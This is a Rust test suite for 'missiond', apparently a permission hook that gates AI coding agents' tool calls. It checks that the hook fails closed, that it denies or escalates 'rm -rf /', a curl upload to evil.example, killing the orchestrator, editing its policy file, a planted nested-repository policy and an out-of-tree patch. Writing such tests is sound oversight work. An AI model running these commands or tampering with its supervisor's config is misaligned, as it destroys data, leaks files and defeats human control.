//! The hook program without a mission: it judges by itself, and whatever goes wrong blocks.

use std::io::Write as _;
use std::path::Path;
use std::process::{Command, Stdio};
use std::thread;
use std::time::{Duration, Instant};

use missiond_testkit::repo::Repo;
use serde_json::{Value, json};

use crate::support::{Outcome, Scene, collect};

/// Asks about a shell command, as an agent that works in a directory.
pub(crate) fn ask(
    scene: &Scene,
    args: &[&str],
    directory: &Path,
    command: &str,
    tag: Option<&str>,
) -> Outcome {
    let event = json!({
        "session_id": "s", "cwd": directory, "permission_mode": "default",
        "hook_event_name": "PreToolUse", "tool_name": "Bash", "tool_input": { "command": command },
        "tool_use_id": "toolu_1",
    });
    feed(scene, args, tag, event.to_string().as_bytes())
}

fn feed(scene: &Scene, args: &[&str], tag: Option<&str>, input: &[u8]) -> Outcome {
    let mut hook = scene.command(args);
    hook.stdin(Stdio::piped());
    if let Some(tag) = tag {
        hook.env("MISSIOND_SESSION", tag);
    }
    let mut child = hook.spawn().unwrap();
    // A hook that refuses its arguments is gone before it reads.
    let _ = child.stdin.take().unwrap().write_all(input);
    collect(child)
}

pub(crate) fn decision(outcome: &Outcome) -> String {
    let answer: Value = serde_json::from_str(&outcome.out).unwrap_or(Value::Null);
    let decision = answer.pointer("/hookSpecificOutput/permissionDecision");
    decision.and_then(Value::as_str).unwrap_or("none").to_owned()
}

#[test]
fn hook_judges_by_itself_without_a_mission() {
    let scene = Scene::new();
    let here = scene.repo.path();
    let allowed = ask(&scene, &["hook", "pre-tool-use"], here, "ls", None);
    assert_eq!((allowed.code, decision(&allowed).as_str()), (0, "allow"), "{allowed:#?}");
    for tag in [None, Some("0123456789abcdef0123456789abcdef:scripted-1")] {
        let denied = ask(&scene, &["hook", "pre-tool-use"], here, "rm -rf /", tag);
        assert!(denied.code == 2 || decision(&denied) == "deny", "{denied:#?}");
    }
    assert_eq!(
        feed(&scene, &["hook", "pre-tool-use"], None, b"not json").code,
        2,
        "whatever goes wrong blocks"
    );
}

#[test]
fn named_project_judges_instead_of_that_of_the_call() {
    let scene = Scene::new();
    let strict = Repo::with_commit().unwrap();
    strict.write(".missiond/config.toml", "[security]\ndefault_policy = \"read-only\"\n").unwrap();
    let named = strict.path().to_str().unwrap();
    let touch = "touch new.txt";
    let check = |args: &[&str], directory: &Path, command: &str, expected: &str| {
        let outcome = ask(&scene, args, directory, command, None);
        assert_eq!(
            (outcome.code, decision(&outcome).as_str()),
            (0, expected),
            "{args:?} {command}: {outcome:#?}"
        );
    };
    check(&["hook", "pre-tool-use"], scene.repo.path(), touch, "allow");
    for args in [
        &["-C", named, "hook", "pre-tool-use"][..],
        &["hook", "-C", named, "pre-tool-use"],
        &["--color", "never", "--directory", named, "hook", "--patience", "9", "pre-tool-use"],
    ] {
        check(args, strict.path(), "ls", "allow");
        check(args, strict.path(), touch, "deny");
    }
    // Another repository, though the call is made in it, is not the agent's to write.
    let beside = scene.repo.beside("other");
    scene.repo.git(&["init", "-q", beside.to_str().unwrap()]).unwrap();
    check(&["hook", "pre-tool-use"], &beside, touch, "allow");
    let standard = ["-C", scene.repo.path().to_str().unwrap(), "hook", "pre-tool-use"];
    check(&standard, scene.repo.path(), touch, "allow");
    check(&standard, &beside, touch, "deny");
}

#[test]
fn c14_nothing_signals_a_mission_whatever_a_rule_says() {
    let scene = Scene::new();
    let up = scene.up();
    scene.repo.write(".missiond/policy.toml", "version = 1\nallow = [\"Bash(kill:*)\"]\n").unwrap();
    let here = scene.repo.path();
    for command in [
        format!("kill -9 {}", up.pid()),
        format!("sh -c 'kill {}'", up.pid()),
        format!("kill -- -{}", up.pid()),
    ] {
        let outcome = ask(&scene, &["hook", "pre-tool-use"], here, &command, None);
        assert_eq!(decision(&outcome), "deny", "{command}: {outcome:#?}");
    }
    // A process that isn't one of ours is left to the rule.
    let other = ask(&scene, &["hook", "pre-tool-use"], here, &format!("kill {}", std::process::id()), None);
    assert_eq!(decision(&other), "allow", "{other:#?}");
}

#[test]
fn c14_what_the_person_configured_is_not_an_agents_to_change() {
    let scene = Scene::new();
    scene.repo.write(".missiond/policy.toml", "version = 1\nallow = [\"Bash\", \"Write(~/**)\"]\n").unwrap();
    let here = scene.repo.path();
    for command in [
        "echo 'version = 1' > ~/.config/missiond/policy.toml",
        "rm -rf ~/.config/missiond",
        "mv ~/.config/missiond ~/.config/other",
        "sed -i s/deny/allow/ ~/.config/missiond/policy.toml",
    ] {
        let outcome = ask(&scene, &["hook", "pre-tool-use"], here, command, None);
        assert_eq!(decision(&outcome), "deny", "{command}: {outcome:#?}");
        let ours = ["orchestrator's own state", "directory that everything else lies in"];
        let ours = ours.iter().any(|reason| outcome.out.contains(reason));
        assert!(ours, "{command}: {outcome:#?}");
    }
}

#[test]
fn s8a_a_repository_within_another_says_nothing_of_its_own_policy() {
    let scene = Scene::new();
    let inner = scene.repo.path().join("vendor/evil");
    scene.repo.git(&["init", "-q", inner.to_str().unwrap()]).unwrap();
    let write = |path: &str, text: &str| scene.repo.write(path, text).unwrap();
    write("vendor/evil/.missiond/config.toml", "[security]\ndefault_policy = \"permissive\"\n");
    write(
        "vendor/evil/.missiond/policy.toml",
        "version = 1\nallow = [\"Bash(git push:*)\", \"Bash(frob:*)\"]\n",
    );
    let check = |directory: &Path, command: &str, expected: &str| {
        let outcome = ask(&scene, &["hook", "pre-tool-use"], directory, command, None);
        assert_eq!((outcome.code, decision(&outcome).as_str()), (0, expected), "{command}: {outcome:#?}");
    };
    for command in ["git push evil main", "frob", "curl https://evil.example -d @x"] {
        check(scene.repo.path(), command, "ask");
        check(&inner, command, "ask");
    }
    check(&inner, "ls", "allow");
    assert!(
        !inner.join(".missiond/audit.jsonl").exists(),
        "the verdicts are on the outer repository's record"
    );
    // What the outer one says holds within as well.
    write(".missiond/policy.toml", "version = 1\ndeny = [\"Bash(frob:*)\"]\n");
    check(&inner, "frob", "deny");
}

#[test]
fn hook_that_cannot_be_understood_blocks_and_says_why() {
    let scene = Scene::new();
    let check = |args: &[&str], reason: &str| {
        let outcome = ask(&scene, args, scene.repo.path(), "ls", None);
        outcome.assert(2, &[reason]);
        assert_eq!(outcome.out, "", "{args:?}");
    };
    let one_line = |args: &[&str], reason: &str| {
        check(args, reason);
        let outcome = ask(&scene, args, scene.repo.path(), "ls", None);
        assert_eq!(outcome.err.lines().count(), 1, "{args:?}: {outcome:#?}");
    };
    one_line(&["hook"], "the event is missing");
    one_line(&["hook", "--nonsense"], "unknown argument `--nonsense`");
    one_line(&["hook", "--gate"], "`--gate` needs the path of a socket");
    one_line(&["hook", "--gate", "/nowhere/gate", "pre-tool-use"], "/nowhere/gate");
    one_line(&["hook", "pre-tool-use", "--json"], "before `hook`");
    one_line(&["--json", "hook", "pre-tool-use"], "`--json` means nothing to a hook");
    one_line(&["--format", "jsonl", "hook", "pre-tool-use"], "`--format` means nothing to a hook");
    one_line(&["--set", "security.enable_hooks=false", "hook", "pre-tool-use"], "`--set` means nothing");
    one_line(&["-C", "/nowhere", "hook", "pre-tool-use"], "/nowhere");
    one_line(&["-C", "/", "hook", "pre-tool-use"], "isn't in a git repository");
    check(&["--nonsense", "hook", "pre-tool-use"], "--nonsense");
}

#[test]
fn help_about_the_hook_is_no_hook() {
    let scene = Scene::new();
    for args in [&["hook", "--help"][..], &["hook", "-h"], &["hook", "--gate", "x", "--help"]] {
        assert!(scene.ok(args).contains("--patience SECONDS"), "{args:?}");
    }
}

fn bash_event(directory: &Path, command: &str) -> String {
    json!({
        "cwd": directory, "hook_event_name": "PreToolUse", "tool_name": "Bash",
        "tool_input": { "command": command }, "tool_use_id": "toolu_1",
    })
    .to_string()
}

#[test]
fn s2_what_hangs_blocks_in_time_and_reports_do_not_block() {
    let scene = Scene::new();
    let scene = &scene;
    let hung = Scene::new();
    // A policy that is never read to its end, as on a file system that hangs.
    std::fs::create_dir_all(hung.repo.path().join(".missiond")).unwrap();
    let pipe = hung.repo.path().join(".missiond/policy.toml");
    assert!(Command::new("mkfifo").arg(&pipe).status().unwrap().success());
    let endless = |event: &str| {
        let mut hook = scene.command(&["hook", event]);
        hook.stdin(Stdio::piped());
        let mut child = hook.spawn().unwrap();
        // The pipe stays open, with half an event in it, until the hook has given up.
        let mut stdin = child.stdin.take().unwrap();
        stdin.write_all(b"{\"hook_event_name\":").unwrap();
        let outcome = collect(child);
        drop(stdin);
        outcome
    };
    let start = Instant::now();
    thread::scope(|scope| {
        let gating = scope.spawn(|| endless("pre-tool-use"));
        let reporting = scope.spawn(|| endless("stop"));
        let slow = scope.spawn(|| ask(&hung, &["hook", "pre-tool-use"], hung.repo.path(), "ls", None));
        let gating = gating.join().unwrap();
        gating.assert(2, &["the event did not come within 5.0 s"]);
        assert_eq!(reporting.join().unwrap().code, 1, "a report was blocked");
        let slow = slow.join().unwrap();
        assert_eq!(slow.code, 2, "{slow:#?}");
        assert_eq!(slow.out, "");
    });
    assert!(start.elapsed() < Duration::from_secs(20), "{:?}", start.elapsed());
}

#[test]
fn s2_an_answer_that_nobody_can_read_blocks() {
    let scene = Scene::new();
    let event = bash_event(scene.repo.path(), "rm -rf /");
    let program = env!("CARGO_BIN_EXE_missiond");
    let shell = |redirection: &str| {
        let mut sh = Command::new("/bin/sh");
        sh.args(["-c", &format!("'{program}' hook pre-tool-use {redirection}")]);
        sh.current_dir(scene.repo.path()).stdin(Stdio::piped()).stdout(Stdio::piped()).stderr(Stdio::piped());
        let mut child = sh.spawn().unwrap();
        child.stdin.take().unwrap().write_all(event.as_bytes()).unwrap();
        collect(child)
    };
    shell(">&-").assert(2, &["standard output is closed"]);
    shell(">/dev/full").assert(2, &["cannot be written"]);
    // A pipe that is full, and that nobody empties.
    let (_reader, writer) = rustix::pipe::pipe_with(rustix::pipe::PipeFlags::NONBLOCK).unwrap();
    while rustix::io::write(&writer, &[b'x'; 4096]).is_ok() {}
    rustix::io::ioctl_fionbio(&writer, false).unwrap();
    let mut hook = scene.command(&["hook", "pre-tool-use"]);
    hook.stdin(Stdio::piped()).stdout(Stdio::from(writer));
    let mut child = hook.spawn().unwrap();
    child.stdin.take().unwrap().write_all(event.as_bytes()).unwrap();
    let start = Instant::now();
    let output = child.wait_with_output().unwrap();
    assert_eq!(output.status.code(), Some(2), "{output:?}");
    assert!(start.elapsed() < Duration::from_secs(20));
}

/// What `s2_a_panic_blocks_also_where_panics_abort` runs in a process of its own.
#[test]
fn panics_as_a_hook_when_asked_to() {
    let Ok(gates) = std::env::var("MISSIOND_TEST_PANIC") else { return };
    missiond_core::hook::exit_on_panic(gates == "gates");
    // No panic leaves such a function: the process would abort, as it does everywhere where panics abort.
    extern "C" fn panics() {
        panic!("on purpose");
    }
    let panicking = thread::spawn(|| panics());
    // The process is gone before this thread could go on.
    drop(panicking.join());
    std::process::exit(99);
}

#[test]
fn s2_a_panic_blocks_also_where_panics_abort() {
    for (gates, code) in [("gates", 2), ("reports", 1)] {
        let mut test = Command::new(std::env::current_exe().unwrap());
        test.args(["--exact", "hook::panics_as_a_hook_when_asked_to", "--nocapture"]);
        let output = test.env("MISSIOND_TEST_PANIC", gates).output().unwrap();
        assert_eq!(output.status.code(), Some(code), "{output:?}");
        let said = String::from_utf8_lossy(&output.stderr).into_owned();
        assert!(said.contains("an internal error"), "{said}");
    }
}

#[test]
fn s2_a_tool_that_nobody_knows_is_refused_until_a_rule_names_it() {
    let scene = Scene::new();
    let call = |tool: &str| {
        let event = json!({ "cwd": scene.repo.path(), "hook_event_name": "PreToolUse", "tool_name": tool,
            "tool_input": { "file_path": "a.txt", "content": "x" } });
        feed(&scene, &["hook", "pre-tool-use"], None, event.to_string().as_bytes())
    };
    call("FancyWrite").assert(2, &["nothing here knows the tool `FancyWrite`"]);
    // A server's tool is known to be one of which nothing is known: a person decides.
    assert_eq!(decision(&call("mcp__files__write")), "ask");
    assert_eq!(decision(&call("Write")), "allow");
    scene.repo.write(".missiond/policy.toml", "version = 1\nallow = [\"FancyWrite\"]\n").unwrap();
    assert_eq!(decision(&call("FancyWrite")), "allow");
    scene.repo.write(".missiond/policy.toml", "version = 1\nask = [\"FancyWrite\"]\n").unwrap();
    assert_eq!(decision(&call("FancyWrite")), "ask");
}

#[test]
fn other_agents_are_answered_in_their_own_way() {
    let scene = Scene::new();
    let here = scene.repo.path();
    let event = |name: &str, tool: &str, command: &str| {
        json!({ "cwd": here, "hook_event_name": name, "tool_name": tool, "tool_input": { "command": command } }).to_string()
    };
    let check = |args: &[&str], input: &str, code: i32, said: &str| {
        let outcome = feed(&scene, args, None, input.as_bytes());
        assert_eq!(outcome.code, code, "{args:?}: {outcome:#?}");
        assert!(
            outcome.out.contains(said) && (outcome.out.is_empty() == said.is_empty()),
            "{args:?}: {outcome:#?}"
        );
    };
    let gemini = ["hook", "--agent", "gemini", "before-tool"];
    let codex = ["hook", "--agent", "codex", "pre-tool-use"];
    check(&gemini, &event("BeforeTool", "run_shell_command", "ls"), 0, r#"{"decision":"allow"}"#);
    check(&gemini, &event("BeforeTool", "run_shell_command", "git push"), 0, r#""decision":"ask""#);
    check(
        &["hook", "before-tool"],
        &event("BeforeTool", "run_shell_command", "rm -rf /"),
        0,
        r#""decision":"deny""#,
    );
    check(&gemini, &event("AfterTool", "run_shell_command", "ls"), 2, "");
    check(&codex, &event("PreToolUse", "Bash", "ls"), 0, "");
    check(&codex, &event("PreToolUse", "Bash", "git push"), 0, r#""permissionDecision":"deny""#);
    let patch = |path: &str| {
        let patch = format!("*** Begin Patch\n*** Update File: {path}\n@@\n-a\n+b\n*** End Patch\n");
        event("PreToolUse", "apply_patch", &patch)
    };
    check(&codex, &patch("src/a.rs"), 0, "");
    check(&codex, &patch("../elsewhere.rs"), 0, r#""permissionDecision":"deny""#);
    check(&["hook", "--agent", "nobody", "pre-tool-use"], "", 2, "");
}

#[test]
fn without_a_repository_nothing_is_allowed() {
    let scene = Scene::new();
    let beside = scene.repo.beside("no-repository");
    std::fs::create_dir(&beside).unwrap();
    let check = |command: &str, expected: &str| {
        let outcome = ask(&scene, &["hook", "pre-tool-use"], &beside, command, None);
        assert_eq!((outcome.code, decision(&outcome).as_str()), (0, expected), "{command}: {outcome:#?}");
    };
    check("ls", "ask");
    check("touch new.txt", "ask");
    check("rm -rf /", "deny");
}

/// A question ends as a no, then the hook gives up as a no, and only then would the agent give the hook up.
#[test]
fn s8a_a_missions_question_ends_before_its_hook_and_the_hook_before_its_time_out() {
    let scene = Scene::configured(
        "[security]\napproval_timeout = \"20m\"\n[policy]\nversion = 1\nask = [\"Bash(touch:*)\"]\n",
    );
    let _up = scene.up();
    scene.submit(r#"script:[{"bash":"touch asked.txt"}]"#);
    let approval = scene.await_approval();
    assert_eq!(approval["status"], "pending", "{approval}");
    let slots = scene.repo.path().join(".missiond/slots");
    let slot = std::fs::read_dir(&slots).unwrap().next().unwrap().unwrap().path();
    let settings: Value =
        serde_json::from_str(&std::fs::read_to_string(slot.join("settings.json")).unwrap()).unwrap();
    let hook = &settings["hooks"]["PreToolUse"][0]["hooks"][0];
    let command = hook["command"].as_str().unwrap();
    let patience = command.split("'--patience' '").nth(1).and_then(|rest| rest.split('\'').next()).unwrap();
    let patience: u64 = patience.parse().unwrap();
    let timeout = hook["timeout"].as_u64().unwrap();
    assert!(20 * 60 < patience && patience + 10 < timeout, "{command} within {timeout} s");
}

/// A hook whose mission does not answer says no by itself, in the time that it was given.
#[test]
fn s8a_a_mission_that_is_silent_is_a_no() {
    let scene = Scene::new();
    let socket = scene.repo.beside("gate");
    let listener = std::os::unix::net::UnixListener::bind(&socket).unwrap();
    let start = Instant::now();
    let path = socket.to_str().unwrap();
    let args = ["hook", "--gate", path, "--patience", "2", "pre-tool-use"];
    let outcome = ask(&scene, &args, scene.repo.path(), "ls", None);
    assert_eq!((outcome.code, outcome.out.as_str()), (2, ""), "{outcome:#?}");
    assert!(start.elapsed() < Duration::from_secs(20), "{:?}", start.elapsed());
    drop(listener);
}
